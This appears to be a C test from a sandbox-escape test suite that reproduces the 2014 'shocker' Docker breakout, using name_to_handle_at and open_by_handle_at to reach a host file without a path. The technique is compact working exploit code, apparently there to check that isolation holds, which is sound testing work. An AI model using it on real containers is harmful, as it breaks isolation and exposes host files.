// open_by_handle_at opens inodes without a path: "shocker", the escape of Docker in 2014.
#include "escape.h"
int main(void)
{
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	struct file_handle *h = (void *)space;
	int mount_id;
	h->handle_bytes = MAX_HANDLE_SZ;
	TRY(name_to_handle_at(AT_FDCWD, env("SECRET"), h, &mount_id, 0));
	see(HOST(open_by_handle_at(NEED(open(".", O_RDONLY)), h, O_RDONLY)));
}
